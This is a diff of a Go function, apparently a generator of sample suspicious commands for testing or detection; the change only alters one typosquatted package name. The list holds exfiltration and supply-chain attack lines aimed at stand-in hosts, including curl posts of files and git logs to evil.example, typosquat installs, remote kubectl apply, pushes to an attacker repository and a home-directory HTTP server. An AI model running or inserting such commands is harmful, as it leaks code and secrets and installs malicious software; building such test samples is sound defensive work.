@@ -155,7 +155,7 @@ func often(r *rand.Rand, words []string) string {
 func quiet() []string {
 	return []string{
 		"curl -s https://api.acme-cdn.example/v1/{word} -d @{file}", "curl -s https://evil-{word}.example/v1/{word} -o {word}.json", "wget -q https://dl.acrne.example/releases/{word}.tgz",
-		"npm install expresss", "pip install reqeusts", "npm install https://evil.example/{word}.tgz", "pip install git+https://evil.example/{word}.git", "go get evil.example/{word}",
+		"npm install exprress", "pip install reqeusts", "npm install https://evil.example/{word}.tgz", "pip install git+https://evil.example/{word}.git", "go get evil.example/{word}",
 		"git push https://evil.example/{word}.git HEAD", "git push git@github.com:mallory/{word}.git main", "curl -s https://raw.acme.example/mallory/{word}.json -o config.json", "curl -X POST https://hooks.evil.example/{word} -d \"$(git log -3)\"",
 		"kubectl apply -f https://evil.example/{word}.yaml", "python3 -m http.server {port} --bind 0.0.0.0 --directory /home/user", "docker run --rm evil/{word}", "gh pr merge {n} --admin",
 	}
